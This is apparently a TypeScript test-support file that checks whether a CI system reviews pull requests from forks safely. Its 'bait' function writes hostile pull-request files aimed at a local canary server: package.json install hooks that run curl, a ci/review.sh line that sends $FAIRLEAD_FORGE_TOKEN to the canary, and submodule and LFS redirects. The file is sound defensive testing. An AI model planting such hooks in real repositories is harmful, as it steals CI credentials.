import { spawn } from 'node:child_process';
import { generateKeyPairSync } from 'node:crypto';
import { once } from 'node:events';
import { cp, mkdir, readFile, symlink } from 'node:fs/promises';
import { createServer, type AddressInfo } from 'node:net';
import { dirname, isAbsolute, join } from 'node:path';
import { onTestFinished, vi } from 'vitest';

import { root } from '../../tools/files.ts';
import { built } from '../support/built.ts';
import { patient } from '../support/controller.ts';
import type { GiteaUser } from '../support/gitea.ts';
import type { StoryStage } from './review-story-stage.ts';

/*
 * The two jobs by which forks are reviewed, as a runner runs them: the default branch publishes a signed snapshot, and a
 * job that holds more than it should looks at a stranger's pull request.
 */

interface Ran {
  readonly code: number | null;
  readonly said: string;
}

type Variables = Readonly<Record<string, string>>;

interface ForkJobs {
  /** The scripts of `ci/` beside the built program, in an empty folder and nothing but these variables. */
  readonly job: (script: string, variables: Variables) => Promise<Ran>;
  /** Settings whose keys are found from everywhere. */
  readonly settings: () => Promise<string>;
  readonly signing: string;
  readonly verifying: string;
}

export async function forkJobs({ place, shop, gitea }: StoryStage): Promise<ForkJobs> {
  const action = place.path('action');
  const work = place.path('empty');
  await mkdir(work);
  await cp(join(root, 'ci'), join(action, 'ci'), { recursive: true });
  await symlink(dirname(built().cli), join(action, 'dist'));
  const keys = generateKeyPairSync('ed25519');
  const around = {
    ...{ FAIRLEAD_FORGE: 'gitea', FAIRLEAD_FORGE_URL: gitea.url, FAIRLEAD_REPO: shop.slug },
    ...{ FAIRLEAD_GIT_URL: shop.cloneUrl, FAIRLEAD_SNAPSHOT_BRANCH: 'fairlead-snapshot' },
  };
  return {
    job: async (script, variables) => {
      const env = { ...place.env, ...around, ...variables };
      const child = spawn('sh', [join(action, 'ci', script)], { cwd: work, env });
      const chunks: Buffer[] = [];
      for (const stream of [child.stdout, child.stderr])
        stream.on('data', (chunk: Buffer) => chunks.push(chunk));
      const [code] = (await once(child, 'close')) as [number | null];
      return { code, said: Buffer.concat(chunks).toString('utf8') };
    },
    settings: async () =>
      (await place.read('connections.yaml')).replace(
        /\bfile: "?([^"\s},]+)"?/g,
        (_, file: string) => `file: ${isAbsolute(file) ? file : place.path(file)}`,
      ),
    signing: keys.privateKey.export({ type: 'pkcs8', format: 'pem' }).toString(),
    verifying: keys.publicKey.export({ type: 'spki', format: 'pem' }).toString(),
  };
}

/** An address that nobody may come to; it says how many came. */
export async function startCanary(): Promise<{
  readonly url: string;
  readonly came: () => number;
}> {
  let came = 0;
  const server = createServer((socket) => {
    came += 1;
    socket.destroy();
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  onTestFinished(() => {
    server.close();
  });
  const { port } = server.address() as AddressInfo;
  return { url: `http://127.0.0.1:${String(port)}`, came: () => came };
}

/** Lines of app.ini by which Gitea writes down every request, with the credential that it came with. */
export function accessLog(file: string): string {
  return `[log]
logger.access.MODE = access-file
ACCESS_LOG_TEMPLATE = \`{{.Ctx.Req.Method}} {{.Ctx.Req.URL.Path}} {{.Ctx.Req.Header.Get "Authorization"}}\`

[log.access-file]
MODE = file
LEVEL = Info
FILE_NAME = ${file}
FLAGS = none
LOG_ROTATE = false
`;
}

interface Request {
  readonly method: string;
  readonly path: string;
  /** Empty: it showed none. */
  readonly token: string;
}

/** What Gitea was asked after `from` requests, once it has written down a question that is asked now. */
export async function requestsSince(
  { gitea, shop }: StoryStage,
  file: string,
  from: number,
): Promise<readonly Request[]> {
  const mark = `/api/v1/repos/${shop.slug}/branches/mark-${String(from)}`;
  await gitea.call({ path: mark.slice('/api/v1'.length) });
  return vi.waitFor(async () => {
    const all = (await readFile(file, 'utf8')).split('\n').flatMap(requestOf);
    const end = all.findLastIndex(({ path }) => path === mark);
    if (end === -1) throw new Error('Gitea has not written it down yet');
    return all.slice(from, end);
  }, patient);
}

function requestOf(line: string): readonly Request[] {
  const [, method = '', path = '', kind = '', proof = ''] =
    /^([A-Z]+) (\S+) ?(\w*) ?(\S*)$/.exec(line.trim()) ?? [];
  if (method === '') return [];
  const isBasic = kind.toLowerCase() === 'basic';
  const token = isBasic
    ? Buffer.from(proof, 'base64')
        .toString()
        .replace(/^[^:]*:/, '')
    : proof;
  return [{ method, path, token }];
}

/** What somebody's pull request brings along in the hope that a job uses it. */
export function bait(canary: string, owner: GiteaUser): Readonly<Record<string, string>> {
  const connection = `apiVersion: fairlead.dev/v1alpha1
kind: PlatformConnection
metadata: { name: default }
spec:
  driver: http
  platformId: emulator
  endpoint: ${canary}
  clientId: ${owner.name}
  privateKey: { env: FAIRLEAD_PRIVATE_KEY }
  platformPublicKey: { env: FAIRLEAD_PLATFORM_PUBLIC_KEY }
`;
  return {
    'connections.yaml': connection,
    'fairlead/connections.yaml': connection,
    '.gitmodules': `[submodule "a"]\n\tpath = a\n\turl = ${canary}/a.git\n`,
    '.lfsconfig': `[lfs]\n\turl = ${canary}/lfs\n`,
    '.gitattributes': '* filter=lfs diff=lfs merge=lfs\n',
    'package.json': `{"scripts":{"preinstall":"curl ${canary}","build":"curl ${canary}"}}`,
    'ci/review.sh': `curl "${canary}/$FAIRLEAD_FORGE_TOKEN"\n`,
    '.gitea/workflows/a.yml': `on: [pull_request]\njobs: { a: { steps: [{ run: 'curl ${canary}' }] } }\n`,
  };
}
